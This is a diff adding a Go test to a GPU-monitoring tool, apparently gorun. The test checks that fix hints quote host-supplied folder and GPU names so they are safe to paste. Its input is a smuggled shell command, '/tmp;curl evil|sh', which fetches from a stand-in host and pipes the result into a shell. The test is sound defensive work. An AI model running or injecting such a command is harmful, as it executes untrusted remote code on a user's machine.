@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/gorun/gorun/gpu"
+	"github.com/gorun/gorun/internal/prose"
 	"github.com/gorun/gorun/internal/test/check"
 )
 
@@ -156,4 +157,21 @@ func TestErrorsInTheKernelsLogAreJudged(t *testing.T) {
 			"used it"}; !slices.Equal(texts, want) {
 		t.Errorf("%q", texts)
 	}
+}
+
+// Hints are gorun's own advice and may be pasted, whatever a host calls its folders and GPUs.
+func TestHintsMayBePasted(t *testing.T) {
+	const word = "/tmp;curl evil|sh"
+	facts := &Facts{Disks: []Disk{{Name: "tmp", Path: word}}}
+	sick := gpu.Device{BusID: word, Health: &gpu.Health{PCIe: gpu.PCIe{Width: 8}, MaxPCIe: gpu.PCIe{Width: 16}}}
+	m := Measured{Names: []string{"f1"}, Hosts: map[string]Host{
+		"f1": {Facts: facts, GPUs: []gpu.Device{sick}, Finished: true},
+	}}
+	hints := 0
+	for _, f := range Judge(m) {
+		quoted := strings.Count(f.Fix, prose.Quoted(word))
+		hints += quoted
+		check.That(t, strings.Count(f.Fix, "curl") == quoted, "%s: %s", f.Kind, f.Fix)
+	}
+	check.Equal(t, hints, 2)
 }
